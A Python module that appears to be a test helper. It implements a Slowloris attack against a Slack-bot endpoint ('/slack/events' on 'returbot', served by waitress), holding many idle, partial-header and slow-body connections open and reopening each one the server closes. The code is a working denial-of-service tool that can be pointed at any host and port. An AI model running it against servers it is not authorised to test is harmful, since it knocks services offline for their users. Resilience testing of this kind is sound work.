"""Slowloris: connections that hold a server's sockets without ever finishing a request.

Three kinds, in turn: ``idle`` (connected, nothing sent), ``header`` (a request line and part of
a header, a byte more every second) and ``body`` (a whole header announcing 100 kB, then a byte
a second). Like the attack, a connection the server closes is opened again at once.
"""

from __future__ import annotations

import contextlib
import select
import socket
import threading
from dataclasses import dataclass, field

KINDS = ("idle", "header", "body")
HEADER = b"POST /slack/events HTTP/1.1\r\nHost: returbot\r\nX-Slack-Signature: v0="
BODY = (
    b"POST /slack/events HTTP/1.1\r\nHost: returbot\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\ntext="
)


@dataclass
class _Held:
    kind: str
    sock: socket.socket


@dataclass
class Stalled:
    """``count`` stalled connections to ``host:port`` while the block runs."""

    host: str
    port: int
    count: int
    reopen: bool = True
    every: float = 1.0  # seconds between trickled bytes (and looks for closed connections)
    closed_by_server: int = 0
    refused: int = 0  # connections that could not be made (the server's backlog full)
    _held: dict[int, _Held] = field(default_factory=dict)
    _stop: threading.Event = field(default_factory=threading.Event)
    _lock: threading.Lock = field(default_factory=threading.Lock)
    _thread: threading.Thread | None = None

    def __enter__(self) -> Stalled:
        for number in range(self.count):
            self._open(KINDS[number % len(KINDS)])
        self._thread = threading.Thread(target=self._keep, name="slowloris", daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=10)
        with self._lock:
            for held in self._held.values():
                held.sock.close()
            self._held.clear()

    @property
    def open(self) -> int:
        with self._lock:
            return len(self._held)

    def _open(self, kind: str) -> None:
        sock = socket.socket()
        sock.settimeout(2)
        try:
            sock.connect((self.host, self.port))
            if kind == "header":
                sock.sendall(HEADER)
            elif kind == "body":
                sock.sendall(BODY)
        except OSError:
            sock.close()
            self.refused += 1
            return
        sock.setblocking(False)
        with self._lock:
            self._held[sock.fileno()] = _Held(kind, sock)

    def _keep(self) -> None:
        while not self._stop.wait(self.every):
            with self._lock:
                held = dict(self._held)
            poller = select.poll()
            for fd in held:
                poller.register(fd, select.POLLIN)
            gone = {fd for fd, _ in poller.poll(0)}
            for fd, one in held.items():
                if fd not in gone and one.kind != "idle":
                    with contextlib.suppress(OSError):
                        one.sock.send(b"a")
                        continue
                    gone.add(fd)
            for fd in gone:
                one = held[fd]
                with contextlib.suppress(OSError):
                    if one.sock.recv(65536):
                        continue  # an answer (a 4xx of waitress's) precedes the close
                with self._lock:
                    self._held.pop(fd, None)
                one.sock.close()
                self.closed_by_server += 1
                if self.reopen and not self._stop.is_set():
                    self._open(one.kind)
